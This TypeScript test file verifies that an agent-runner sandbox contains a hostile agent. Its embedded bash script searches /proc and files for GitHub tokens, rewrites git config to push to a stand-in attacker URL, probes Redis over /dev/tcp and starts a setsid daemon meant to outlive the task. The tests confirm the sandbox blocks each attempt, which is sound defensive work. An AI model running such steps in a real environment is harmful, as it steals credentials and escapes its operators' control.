import { randomBytes } from "node:crypto";
import { chmod, mkdtemp, readdir, rm, writeFile } from "node:fs/promises";
import http from "node:http";
import type { AddressInfo } from "node:net";
import os from "node:os";
import path from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { startSandbox, type Sandbox } from "@agent-runner/github-sandbox";
import { Redis } from "ioredis";
import { formatA, REDIS_URL, RedisServerProcess, ServiceProcess, waitFor } from "@agent-runner/test-kit";
import { startPipeline, type Pipeline } from "../test-support/pipeline.js";
import { processesWith } from "../test-support/processes-with.js";

/**
 * A hostile agent: the change command tries, from inside a real worker's
 * task, every escape the isolation issue lists, and writes what each attempt
 * found into the tree, which the worker commits. The same script run without
 * the sandbox (the control) must succeed at the escapes, which shows that the
 * attempts are real and that the sandbox is what stops them.
 */
const HOSTILE_AGENT = String.raw`#!/bin/bash
set -u

# The harmless task that runs after a hostile one, on another repository: it records the tree it was
# given (what git sees in it, its files, its git configuration), written last so it is not in the listing.
if [ "$AGENT_TARGET_REPO" = "acme/harmless" ]; then
  { echo "status:"; git status --porcelain --ignored --untracked-files=all; echo "files:"; ls -A; echo "config:"; git config --local --list; } > "$HOME/state" 2>&1
  mv "$HOME/state" tree-state.txt
  echo "harmless agent done"
  exit 0
fi

report=escape-report.txt
say() { printf '%s\n' "$*" >> "$report"; }
: > "$report"
say "task: $AGENT_TASK_ID"

# 1. The token, by any route: environments and command lines of every visible process, and every small file
#    in the places a token file or a worker's home would be.
procs=0
for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
  procs=$((procs + 1))
  tr '\0' '\n' < "$f" 2>/dev/null | grep -aoE 'ghp_[A-Za-z0-9]{20,}' | sed 's/^/token-found-in-proc: /' >> "$report"
done
files=$(find /tmp /root /home /run /var /etc /workspace/.. "$PROBE_WORKSPACE" -xdev -maxdepth 5 -type f -size -64k 2>/dev/null | wc -l)
find /tmp /root /home /run /var /etc /workspace/.. "$PROBE_WORKSPACE" -xdev -maxdepth 5 -type f -size -64k 2>/dev/null \
  | xargs -r grep -ahoE 'ghp_[A-Za-z0-9]{20,}' 2>/dev/null | sed 's/^/token-found-in-file: /' >> "$report"
env | grep -aoE 'ghp_[A-Za-z0-9]{20,}' | sed 's/^/token-found-in-env: /' >> "$report"
say "searched processes=$procs files=$files"

# 2. Redirect the worker's git: the tree's config and the home's.
if printf '[remote "origin"]\n\turl = %s\n\tpushurl = %s\n[url "%s"]\n\tinsteadOf = %s\n' \
    "$ATTACKER_URL/stolen.git" "$ATTACKER_URL/stolen.git" "$ATTACKER_URL/" "$GIT_BASE_URL/" >> .git/config 2>/dev/null; then
  say "git-config: written"
else
  say "git-config: refused"
fi
printf '[url "%s"]\n\tinsteadOf = %s\n' "$ATTACKER_URL/" "$GIT_BASE_URL/" >> "$HOME/.gitconfig" 2>/dev/null && say "home-gitconfig: written"

# 3. Another task's tree or mirror, and the worker's workspace.
if listing=$(ls "$PROBE_WORKSPACE" 2>/dev/null); then say "workspace-listed: $(echo $listing | tr '\n' ' ')"; else say "workspace-listed: no"; fi
if echo planted > "$PROBE_WORKSPACE/planted-by-agent" 2>/dev/null; then say "outside-write: written"; else say "outside-write: refused"; fi

# 4. Redis (and so the queue) on the host's loopback: a PING, then a write of a key of its own.
if reply=$(timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/'"$PROBE_REDIS_PORT"' || exit 1
    printf "PING\r\nSET agent-probe:%s planted\r\n" "$0" >&3; timeout 1 cat <&3; exit 0' "$PROBE_MARKER" 2>/dev/null); then
  say "redis: $(printf '%s' "$reply" | tr -d '\r' | tr '\n' ' ')"
else
  say "redis: unreachable"
fi

# 5. Outlive the task: a daemon in a session of its own, beating into the tree. Each beat is
# written whole (a temporary file renamed over the last): killed mid-beat, it leaves the last one.
setsid bash -c 'cd /workspace 2>/dev/null; while :; do date +%s%N > .heartbeat.tmp && mv -f .heartbeat.tmp heartbeat; sleep 0.2; done' "$PROBE_MARKER" </dev/null >/dev/null 2>&1 &
sleep 0.5
say "daemon: started"
echo "hostile agent done"
`;

interface Attacker {
  readonly url: string;
  readonly requests: string[];
  close(): Promise<void>;
}

/** A server standing in for the attacker's: records every request that reaches it, with or without credentials. */
async function startAttacker(): Promise<Attacker> {
  const requests: string[] = [];
  const server = http.createServer((req, res) => {
    requests.push(`${req.method ?? ""} ${req.url ?? ""} auth=${req.headers.authorization === undefined ? "no" : "yes"}`);
    res.writeHead(401, { "www-authenticate": 'Basic realm="attacker"' }).end();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    requests,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

describe("a hostile agent in a real worker's task", () => {
  let sandbox: Sandbox;
  let attacker: Attacker;
  let scripts: string;
  let tokenDir: string;
  let tokenFile: string;
  let pipeline: Pipeline | undefined;
  let workerProcess: ServiceProcess | undefined;
  const markers: string[] = [];
  const workspaces: string[] = [];

  beforeAll(async () => {
    sandbox = await startSandbox();
    attacker = await startAttacker();
    await sandbox.admin.createRepo({ owner: "acme", name: "dispatch" });
    await sandbox.admin.createRepo({ owner: "acme", name: "target", files: { "README.md": "# target\n" } });
    await sandbox.admin.createRepo({ owner: "acme", name: "harmless", files: { "README.md": "# harmless\n" } });
    scripts = await mkdtemp(path.join(os.tmpdir(), "ar-hostile-agent-"));
    await writeFile(path.join(scripts, "agent.sh"), HOSTILE_AGENT);
    await chmod(path.join(scripts, "agent.sh"), 0o755);
    // The worker reads its token from a file, as a mounted secret: the first place an agent would look.
    tokenDir = await mkdtemp(path.join(os.tmpdir(), "ar-hostile-token-"));
    tokenFile = path.join(tokenDir, "github-token");
    await writeFile(tokenFile, `${sandbox.tokens.owner}\n`, { mode: 0o600 });
  });

  afterEach(async () => {
    await workerProcess?.stop();
    workerProcess = undefined;
    await pipeline?.close();
    pipeline = undefined;
    // The control run's daemon does outlive its task: that is what it shows. Stop it here, and remove
    // the key an agent that reached Redis wrote.
    const redis = new Redis(REDIS_URL, { maxRetriesPerRequest: 1 });
    for (const marker of markers.splice(0)) {
      for (const pid of await processesWith(marker)) process.kill(pid, "SIGKILL");
      await redis.del(`agent-probe:${marker}`);
    }
    redis.disconnect();
    for (const dir of workspaces.splice(0)) await rm(dir, { recursive: true, force: true });
  });

  afterAll(async () => {
    await attacker.close();
    await sandbox.close();
    await rm(scripts, { recursive: true, force: true });
    await rm(tokenDir, { recursive: true, force: true });
  });

  /**
   * Runs the hostile agent as one task and returns its report, as the worker committed it. The worker runs
   * in this process and reads its token from a file, or (`inWorkerProcess`) runs as a process of its own
   * started with the token in its environment, GITHUB_TOKEN, as an operator may start it.
   */
  async function runHostileTask(
    taskId: string,
    env: Record<string, string>,
    inWorkerProcess = false,
  ): Promise<{ report: string; marker: string; branch: string }> {
    const marker = `hostile-agent-${randomBytes(6).toString("hex")}`;
    markers.push(marker);
    const issue = sandbox.admin.createIssue("acme", "dispatch", {
      title: taskId,
      body: formatA(taskId, "acme/target", "Do something harmless."),
      labels: ["copilot-agent"],
    }).number;
    attacker.requests.length = 0;
    const workspaceDir = await mkdtemp(path.join(os.tmpdir(), "ar-hostile-workspace-"));
    workspaces.push(workspaceDir);
    // What the agent is told, through the allowlist: everything it needs to aim, nothing it could not guess.
    const probes: Record<string, string> = {
      PROBE_WORKSPACE: workspaceDir,
      PROBE_REDIS_PORT: new URL(env["REDIS_URL"] ?? REDIS_URL).port || "6379",
      PROBE_MARKER: marker,
      ATTACKER_URL: attacker.url,
      GIT_BASE_URL: sandbox.gitUrl,
    };
    const workerEnv = {
      WORKSPACE_DIR: workspaceDir,
      CHANGE_HANDLER: "command",
      CHANGE_COMMAND: JSON.stringify([path.join(scripts, "agent.sh")]),
      CHANGE_COMMAND_ENV: Object.keys(probes).join(","),
      AGENT_SANDBOX_READ_ONLY_PATHS: scripts,
      ...env,
    };
    if (!inWorkerProcess) Object.assign(process.env, probes);
    try {
      pipeline = await startPipeline({
        sandbox,
        env: { GITHUB_TOKEN: "", GITHUB_TOKEN_FILE: tokenFile, ...workerEnv },
        workers: inWorkerProcess ? 0 : 1,
      });
      if (inWorkerProcess) {
        workerProcess = await ServiceProcess.start({
          kind: "worker",
          name: "worker",
          env: {
            GITHUB_TOKEN: sandbox.tokens.owner,
            GITHUB_API_URL: sandbox.apiUrl,
            DISPATCH_REPO: "acme/dispatch",
            REDIS_URL,
            QUEUE_PREFIX: pipeline.prefix,
            GITHUB_WRITES_PER_MINUTE: "0",
            ...workerEnv,
            ...probes,
          },
        });
      }
      await waitFor(
        () => sandbox.admin.getIssue("acme", "dispatch", issue)?.labels.some((l) => l.name === "processed"),
        120_000,
        `task ${taskId} to finish`,
      );
    } finally {
      for (const name of Object.keys(probes)) delete process.env[name];
    }
    const branch = `agent-task-${taskId.slice(0, 8)}`;
    const report = await sandbox.admin.readFile("acme", "target", branch, "escape-report.txt");
    expect(report, "the hostile agent's report was committed").toBeDefined();
    // This task's report, not an earlier task's on a branch of the same name.
    expect(report).toMatch(new RegExp(`^task: ${taskId}$`, "m"));
    return { report: report ?? "", marker, branch };
  }

  /**
   * After a hostile task, the same worker takes a harmless one on another repository: returns the state of
   * the tree it was given (as its agent recorded it) and the git requests its push made.
   */
  async function runHarmlessTask(taskId: string): Promise<{ state: string; pushes: string[]; attackerRequests: number }> {
    const before = attacker.requests.length;
    const issue = sandbox.admin.createIssue("acme", "dispatch", {
      title: taskId,
      body: formatA(taskId, "acme/harmless", "Do something harmless."),
      labels: ["copilot-agent"],
    }).number;
    await waitFor(
      () => sandbox.admin.getIssue("acme", "dispatch", issue)?.labels.some((l) => l.name === "processed"),
      120_000,
      `task ${taskId} to finish`,
    );
    const state = await sandbox.admin.readFile("acme", "harmless", `agent-task-${taskId.slice(0, 8)}`, "tree-state.txt");
    expect(state, "the harmless agent's record of its tree was committed").toBeDefined();
    const pushes = sandbox.admin
      .requestLog()
      .filter((e) => e.kind === "git" && e.path.endsWith("/git-receive-pack") && e.status === 200)
      .map((e) => `${e.user ?? "?"} ${e.path}`);
    return { state: state ?? "", pushes, attackerRequests: attacker.requests.length - before };
  }

  it("finds the token, the workspace, Redis and a way to outlive its task when it runs without the sandbox (the control)", async () => {
    const { report, marker } = await runHostileTask("control-task-1", { AGENT_SANDBOX: "none" });

    expect(report).toContain(`token-found-in-file: ${sandbox.tokens.owner}`);
    expect(report).toMatch(/workspace-listed: .*mirrors/);
    expect(report).toContain("outside-write: written");
    expect(report).toContain("redis: +PONG +OK");
    expect(await processesWith(marker)).not.toEqual([]);
    // Even unsandboxed, the agent's rewritten git configuration does not carry the token away: the worker's
    // git pushes to the clone URL's origin only and reads no configuration the task wrote.
    expect(report).toContain("git-config: written");
    expect(report).toContain("home-gitconfig: written");
    expect(attacker.requests.filter((request) => request.includes("auth=yes"))).toEqual([]);

    // Nothing of it carries over to the next task, on another repository, in the same worker: a tree
    // that git finds clean, holding the repository's files only, whose git configuration names the
    // real remote and nothing of the attacker's; the push went there, and the attacker heard nothing.
    const next = await runHarmlessTask("harmless-after-control-1");
    expect(next.state).toMatch(/^status:\nfiles:\n\.git\nREADME\.md\nconfig:\n/);
    expect(next.state).toMatch(/^remote\.origin\.url=.*\/acme\/harmless\.git$/m);
    expect(next.state).not.toContain(attacker.url);
    expect(next.state).not.toMatch(/insteadof|pushurl/i);
    expect(next.pushes.filter((push) => push.includes("/acme/harmless.git/"))).toEqual([`${sandbox.users.owner} /git/acme/harmless.git/git-receive-pack`]);
    expect(next.attackerRequests).toBe(0);
  });

  it("gets none of it inside the sandbox: no token, no workspace, no Redis, no git redirect, no process left behind", async () => {
    const { report, marker, branch } = await runHostileTask("sandboxed-task-1", {});

    // It searched (processes and files were there to read)...
    const searched = /searched processes=(\d+) files=(\d+)/.exec(report);
    expect(Number(searched?.[1])).toBeGreaterThan(0);
    expect(Number(searched?.[2])).toBeGreaterThan(0);
    // ...and found no token anywhere: not in a process, a file or its environment.
    expect(report).not.toMatch(/token-found/);
    expect(report).not.toContain(sandbox.tokens.owner);
    // The worker's workspace (mirrors, other trees) is invisible and unwritable.
    expect(report).toContain("workspace-listed: no");
    expect(report).toContain("outside-write: refused");
    expect(await readdir(workspaces[0] ?? "")).not.toContain("planted-by-agent");
    // Redis on the host's loopback cannot be reached with the network off.
    expect(report).toContain("redis: unreachable");
    // The tree's git configuration is read-only, and the worker's push went to the real remote only.
    expect(report).toContain("git-config: refused");
    expect(attacker.requests).toEqual([]);
    expect(sandbox.admin.listPulls("acme", "target").filter((p) => p.head.ref === branch)).toHaveLength(1);
    // The daemon did run (it beat into the tree before the commit), and nothing of it survives the task.
    expect(await sandbox.admin.readFile("acme", "target", branch, "heartbeat")).toMatch(/^\d+\n$/);
    expect(await processesWith(marker)).toEqual([]);
  });

  it("reads the token from the worker's /proc/<pid>/environ when the worker was started with GITHUB_TOKEN and runs it unsandboxed (the control)", async () => {
    const { report } = await runHostileTask("proc-control-task-1", { AGENT_SANDBOX: "none" }, true);

    // The service dropped GITHUB_TOKEN from its process.env, but the kernel keeps the environment the
    // process was started with: any process of the same user reads it there.
    expect(report).toContain(`token-found-in-proc: ${sandbox.tokens.owner}`);
    expect(workerProcess?.output()).not.toContain(sandbox.tokens.owner);
  });

  it("cannot read the worker's environment inside the sandbox, although the worker was started with GITHUB_TOKEN", async () => {
    const { report } = await runHostileTask("proc-sandboxed-task-1", {}, true);

    const searched = /searched processes=(\d+) files=(\d+)/.exec(report);
    expect(Number(searched?.[1])).toBeGreaterThan(0);
    expect(report).not.toMatch(/token-found/);
    expect(report).not.toContain(sandbox.tokens.owner);
  });

  it("reaches the host's loopback only when the operator turns the network on", async () => {
    const { report } = await runHostileTask("network-task-1", { AGENT_NETWORK: "true" });

    expect(report).toContain("redis: +PONG +OK");
    // Everything else stays shut.
    expect(report).not.toMatch(/token-found/);
    expect(report).toContain("workspace-listed: no");
  });

  it("reaches a Redis that requires a password with the network on, but can neither read nor write it", async () => {
    const password = randomBytes(12).toString("hex");
    const guarded = await RedisServerProcess.start({ password });
    try {
      const { report, marker } = await runHostileTask("guarded-network-task-1", {
        AGENT_NETWORK: "true",
        REDIS_URL: guarded.address,
        REDIS_PASSWORD: password,
      });
      // It connected (Redis answered it), and every command was refused: the worker's password is not
      // in the sandbox. The worker itself, with the password, ran the whole task through that Redis.
      expect(report).toContain("redis: -NOAUTH");
      expect(report).not.toContain("+OK");
      expect(report).not.toContain(password);
      const admin = new Redis(guarded.url, { maxRetriesPerRequest: 1 });
      try {
        expect(await admin.exists(`agent-probe:${marker}`)).toBe(0);
      } finally {
        admin.disconnect();
      }
    } finally {
      await pipeline?.close();
      pipeline = undefined;
      await guarded.destroy();
    }
  });
});
